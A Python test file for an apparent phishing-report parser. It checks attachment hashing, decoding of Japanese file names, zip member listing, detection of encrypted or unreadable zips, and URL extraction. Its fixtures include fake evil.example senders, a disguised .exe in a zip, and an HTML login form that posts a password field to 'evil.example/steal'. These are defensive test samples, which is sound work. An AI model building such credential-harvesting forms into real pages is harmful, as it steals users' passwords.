"""Attachments: hashes of the decoded bytes, zip members listed without extracting."""

import hashlib
import unittest

from mamori.lib.mailparse import ARCHIVE_UNREADABLE, parse_report
from mamori.lib.tests import mails


class AttachmentTests(unittest.TestCase):
    def test_it_hashes_the_decoded_bytes_and_decodes_japanese_names(self):
        data = b"%PDF-1.7 invoice" * 100
        parsed = parse_report(mails.forward_as_attachment(mails.original(attachments=[("請求書.pdf", data)])))

        (attachment,) = parsed.reported.attachments
        self.assertEqual(attachment.name, "請求書.pdf")
        self.assertEqual(attachment.size, len(data))
        self.assertEqual(attachment.sha256, hashlib.sha256(data).hexdigest())
        self.assertEqual(attachment.content_type, "application/octet-stream")

    def test_it_lists_a_zips_members_with_cp932_names(self):
        archive = mails.zip_of({"請求書.exe": b"MZ" * 50, "readme.txt": b"x"}, cp932_names=True)

        (attachment,) = parse_report(mails.original(attachments=[("請求書.zip", archive)])).reported.attachments

        self.assertEqual(attachment.archive_members, ("請求書.exe", "readme.txt"))
        self.assertFalse(attachment.archive_encrypted)

    def test_it_marks_a_password_protected_zip(self):
        archive = bytearray(mails.zip_of({"doc.docm": b"x"}))
        # Set the "encrypted" flag bit in the central directory entry, as a PPAP zip has it.
        central = archive.index(b"PK\x01\x02")
        archive[central + 8] |= 0x1

        (attachment,) = parse_report(mails.original(attachments=[("doc.zip", bytes(archive))])).reported.attachments

        self.assertTrue(attachment.archive_encrypted)

    def test_it_flags_a_zip_it_cannot_read(self):
        parsed = parse_report(mails.original(attachments=[("broken.zip", b"PK\x03\x04 not really")]))

        self.assertEqual(parsed.reported.attachments[0].archive_members, ())
        self.assertIn(ARCHIVE_UNREADABLE, parsed.problems)

    def test_it_reads_a_raw_shift_jis_file_name(self):
        raw = (
            b"From: a@evil.example\r\nDate: Tue, 24 Nov 2026 10:00:00 +0900\r\nMIME-Version: 1.0\r\n"
            b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n'
            b'--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="'
            + "見積書.xlsm".encode("cp932")
            + b'"\r\nContent-Transfer-Encoding: base64\r\n\r\nQUJD\r\n--b--\r\n'
        )

        (attachment,) = parse_report(raw).reported.attachments

        self.assertEqual((attachment.name, attachment.size), ("見積書.xlsm", 3))

    def test_it_finds_links_inside_an_attached_html_page(self):
        page = b'<html><form action="https://evil.example/steal"><input name=pw></form></html>'

        parsed = parse_report(mails.original(attachments=[("login.html", page)]))

        self.assertIn("https://evil.example/steal", parsed.reported.urls)

    def test_it_decodes_rfc_2231_file_names_in_their_charset(self):
        for header, name in (
            ("filename*=shift_jis''%90%BF%8B%81%8F%91.pdf", "請求書.pdf"),
            ("filename*=iso-2022-jp''%1B%24B%40A5a%3Dq%1B%28B.pdf", "請求書.pdf"),
            ("filename*0*=utf-8''%E8%AB%8B; filename*1*=%E6%B1%82.pdf", "請求.pdf"),
            ("filename*=x-unknown''%E8%AB%8B%E6%B1%82.pdf", "請求.pdf"),
        ):
            with self.subTest(header=header):
                raw = (
                    "From: a@evil.example\r\nMIME-Version: 1.0\r\nContent-Type: application/pdf\r\n"
                    f"Content-Disposition: attachment; {header}\r\nContent-Transfer-Encoding: base64\r\n\r\nQUJD\r\n"
                ).encode()
                self.assertEqual(parse_report(raw).reported.attachments[0].name, name)
